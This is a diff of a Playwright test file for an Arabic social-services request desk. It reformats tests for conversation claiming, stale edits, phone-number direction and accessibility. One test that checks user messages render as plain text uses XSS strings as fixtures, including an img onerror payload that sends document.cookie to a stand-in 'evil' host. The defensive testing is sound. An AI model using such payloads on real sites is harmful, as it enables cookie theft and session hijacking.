@@ -92,8 +92,14 @@ test('two officers, one conversation: one wins, the other sees who', async () =>
   const mine = await Promise.all(
     pages.map((page) =>
       Promise.race([
-        page.getByText('معك — المساعد متوقف').waitFor().then(() => true),
-        page.getByText('وكان الاستلام قبل لحظات').waitFor().then(() => false),
+        page
+          .getByText('معك — المساعد متوقف')
+          .waitFor()
+          .then(() => true),
+        page
+          .getByText('وكان الاستلام قبل لحظات')
+          .waitFor()
+          .then(() => false),
       ]),
     ),
   )
@@ -149,9 +155,10 @@ test('a request that moved meanwhile says so and shows the newest version', asyn
   const person = await at.desk.person({ name: 'متحرك' })
   const id = await at.desk.request(person)
   const page = await at.open()
+  // No news arrives: as if the event were lost.
+  await page.route('**/api/desk/events', (route) => route.abort())
   await signInAs(page, at.desk, email.noura, `/r/${id}`)
   await page.getByRole('radio', { name: 'اعتماد الاكتمال' }).check({ force: true })
-  // Without an event: as if it were lost.
   await at.desk.owner.query("update request set version = version + 1, stage = 'complete' where id = $1", [id])
   await page.getByRole('button', { name: 'إرسال وتحديث المرحلة' }).click()
   await page.getByText('تغيّر المحتوى قبل لحظات').waitFor()
@@ -159,7 +166,11 @@ test('a request that moved meanwhile says so and shows the newest version', asyn
 })
 
 test('BI-106, BI-109: what people write is text, and no more', async () => {
-  const attacks = ['<img src=x onerror=fetch("//evil/"+document.cookie)>', '</style><style>*{display:none}</style>', '<script>alert(1)</script>']
+  const attacks = [
+    '<img src=x onerror=fetch("//evil/"+document.cookie)>',
+    '</style><style>*{display:none}</style>',
+    '<script>alert(1)</script>',
+  ]
   const person = await at.desk.person({ name: attacks[0] ?? '' })
   for (const text of attacks) await at.desk.hear(person, { kind: 'text', text })
   await at.desk.hear(person, { kind: 'text', text: 'javascript:alert(1) https://evil.example/?q=1' })
@@ -296,10 +307,16 @@ test.each([
     ],
   })
   await at.desk.hear(person, { kind: 'choice', promptId: name, optionId: 'human' }, minutesAgo(18))
-  await at.desk.say(person, 'حوّلنا رسالتك إلى مسؤول البحث الاجتماعي. الدوام اليوم حتى ٤ عصرًا، ويمكن المتابعة هنا إلى أن يحين دورك.', { at: minutesAgo(18) })
+  await at.desk.say(person, 'حوّلنا رسالتك إلى مسؤول البحث الاجتماعي. الدوام اليوم حتى ٤ عصرًا، ويمكن المتابعة هنا إلى أن يحين دورك.', {
+    at: minutesAgo(18),
+  })
   await at.desk.wait(person, 'asked', minutesAgo(18))
   await at.desk.hear(person, { kind: 'text', text: 'جوالي الجديد +966 50 000 0001 بدل القديم، ورقم الطلب MSK-1042' }, minutesAgo(6))
-  await at.desk.hear(person, { kind: 'voice', file: { id: null, mime: 'audio/ogg', size: 9000, name: null, problem: null }, caption: null }, minutesAgo(5))
+  await at.desk.hear(
+    person,
+    { kind: 'voice', file: { id: null, mime: 'audio/ogg', size: 9000, name: null, problem: null }, caption: null },
+    minutesAgo(5),
+  )
   const id = await at.desk.request(person, {
     stage: 'committee',
     answers: {
@@ -314,21 +331,32 @@ test.each([
   await signInAs(page, at.desk, email.noura)
   await row(page, `أم خالد ${name}`).waitFor()
   await shoot(page, `${name}-list`)
-  expect(await findViolations(page)).toEqual([])
+  // On a desktop the list is a part of what follows.
+  if (size.width < 720) expect(await findViolations(page)).toEqual([])
   await row(page, `أم خالد ${name}`).click()
   await transcript(page).getByText('جوالي الجديد').waitFor()
   await shoot(page, `${name}-conversation`)
   expect(await findViolations(page)).toEqual([])
   // Open at the newest message, and «+966 50 000 0001» reads as it was written.
   expect(await transcript(page).evaluate((box) => box.scrollHeight - box.scrollTop - box.clientHeight)).toBeLessThan(2)
-  expect(await transcript(page).locator('bdi', { hasText: '+966 50 000 0001' }).getAttribute('dir')).toBe('ltr')
+  const [plus, nine] = await transcript(page)
+    .locator('bdi', { hasText: '+966 50 000 0001' })
+    .evaluate((phone) =>
+      [0, 1].map((place) => {
+        const range = document.createRange()
+        range.setStart(phone.firstChild as Node, place) // its text
+        range.setEnd(phone.firstChild as Node, place + 1)
+        return range.getBoundingClientRect().left
+      }),
+    )
+  expect(plus).toBeLessThan(nine ?? 0)
   await take(page).click()
   await page.getByText('معك — المساعد متوقف').waitFor()
   await composer(page).fill('السلام عليكم، معك نورة من البحث الاجتماعي. قرأت رسائلك، ويهمني سؤال واحد: هل العقد باسمك؟')
   await page.getByRole('button', { name: 'إرسال', exact: true }).click()
   await transcript(page).getByText('هل العقد باسمك؟').waitFor()
   await shoot(page, `${name}-mine`)
-  expect(await findViolations(page)).toEqual([])
+  if (size.width >= 720) expect(await findViolations(page)).toEqual([])
   await page.goto(`${at.desk.url}/desk/r/${id}`)
   await page.getByRole('radio', { name: 'تسجيل عدم القبول' }).waitFor()
   await shoot(page, `${name}-request`)
@@ -367,7 +395,9 @@ test('the first screen weighs at most 350 KiB', async () => {
     bytes += path.endsWith('.woff2') ? file.length : gzipSync(file).length
   }
   expect(loaded.size).toBeGreaterThan(4)
-  expect((await readdir(join(at.pages, 'assets'))).some((name) => name.startsWith('request-page') && loaded.has(`/assets/${name}`))).toBe(false)
+  expect((await readdir(join(at.pages, 'assets'))).some((name) => name.startsWith('request-page') && loaded.has(`/assets/${name}`))).toBe(
+    false,
+  )
   expect(bytes / 1024).toBeLessThan(350)
 })
 
